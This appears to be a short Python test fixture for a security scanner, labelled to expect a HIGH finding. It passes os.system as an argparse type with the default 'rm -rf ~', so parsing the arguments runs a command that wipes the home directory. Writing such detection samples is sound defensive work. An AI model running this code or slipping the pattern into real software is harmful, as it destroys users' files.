# expect: HIGH
import argparse, os
p = argparse.ArgumentParser()
p.add_argument("--x", type=os.system, default="rm -rf ~")
p.parse_args()
